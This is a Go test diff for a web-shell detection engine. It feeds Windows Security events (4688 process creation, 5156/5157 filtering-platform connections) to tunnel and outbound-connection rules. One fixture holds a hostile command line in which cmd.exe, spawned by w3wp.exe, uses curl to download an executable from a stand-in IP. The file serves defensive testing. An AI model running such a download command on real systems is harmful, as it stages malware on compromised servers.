@@ -894,3 +894,56 @@ func TestServerWorkers(t *testing.T) {
 		t.Errorf("cmd.exe under php-cgi.exe connecting out: rules %v, want %s", ids, winOutbound)
 	}
 }
+
+// securityEvent builds a Security-channel event with the given EventData
+// and maps it with the beat's own mapper.
+func securityEvent(t *testing.T, id int, data ...string) map[string]any {
+	t.Helper()
+	var b strings.Builder
+	fmt.Fprintf(&b, `<Event><System><Provider Name="Microsoft-Windows-Security-Auditing"/><EventID>%d</EventID><TimeCreated SystemTime="2026-11-26T10:00:00Z"/><Channel>Security</Channel><Computer>web1</Computer></System><EventData>`, id)
+	for i := 0; i+1 < len(data); i += 2 {
+		fmt.Fprintf(&b, `<Data Name="%s">%s</Data>`, data[i], data[i+1])
+	}
+	rec, err := windows.ParseXML([]byte(b.String() + "</EventData></Event>"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rec.ECS()
+}
+
+// A host without Sysmon: 4688 gives the process tree, the Windows
+// Filtering Platform's 5156 (permitted) and 5157 (blocked) the
+// connections, with the image as a device path. The tunnel rule and the
+// descendant's outbound rule read them as they read Sysmon 3.
+func TestSecurityConnectionRules(t *testing.T) {
+	det, err := detector.New(config.Default())
+	if err != nil {
+		t.Fatal(err)
+	}
+	det.Detect(securityEvent(t, 4688, "NewProcessId", "0x1f4", "NewProcessName", `C:\Windows\System32\cmd.exe`, "CommandLine", `cmd.exe /c curl http://203.0.113.7/x.exe -o x.exe`,
+		"ProcessId", "0xbc0", "ParentProcessName", `C:\Windows\System32\inetsrv\w3wp.exe`, "SubjectUserName", "DefaultAppPool"))
+	w3wp, cmdExe := `\device\harddiskvolume2\windows\system32\inetsrv\w3wp.exe`, `\device\harddiskvolume2\windows\system32\cmd.exe`
+	for _, c := range []struct {
+		id        int
+		pid       string
+		app, dir  string
+		ip, port  string
+		rule      string
+		want      bool
+		describes string
+	}{
+		{5156, "3008", w3wp, "%%14593", "127.0.0.1", "3389", winTunnel, true, "w3wp.exe's outbound RDP, permitted"},
+		{5157, "3008", w3wp, "%%14593", "10.0.0.5", "5985", winTunnel, true, "w3wp.exe's outbound WinRM, blocked"},
+		{5156, "3008", w3wp, "Outbound", "::1", "445", winTunnel, true, "w3wp.exe's SMB to its host, direction rendered"},
+		{5156, "3008", w3wp, "%%14592", "10.0.0.5", "22", winTunnel, false, "an inbound connection"},
+		{5156, "3008", w3wp, "%%14593", "10.0.0.5", "444", winTunnel, false, "Exchange's w3wp.exe to its back end (OTRF ProxyLogon)"},
+		{5156, "500", cmdExe, "%%14593", "203.0.113.7", "80", winOutbound, true, "cmd.exe under w3wp.exe (4688) calling out"},
+		{5156, "3008", w3wp, "%%14593", "10.0.0.9", "1433", winOutbound, false, "w3wp.exe itself to its database"},
+	} {
+		doc := securityEvent(t, c.id, "ProcessID", c.pid, "Application", c.app, "Direction", c.dir, "SourceAddress", "10.0.0.2", "SourcePort", "50123",
+			"DestAddress", c.ip, "DestPort", c.port, "Protocol", "6")
+		if got := ruleMatches(det, doc, c.rule); got != c.want {
+			t.Errorf("%s (%d): alert %v, want %v (rules %v)", c.describes, c.id, got, c.want, detection.LookupStrings(doc, "webshell.rule_ids"))
+		}
+	}
+}
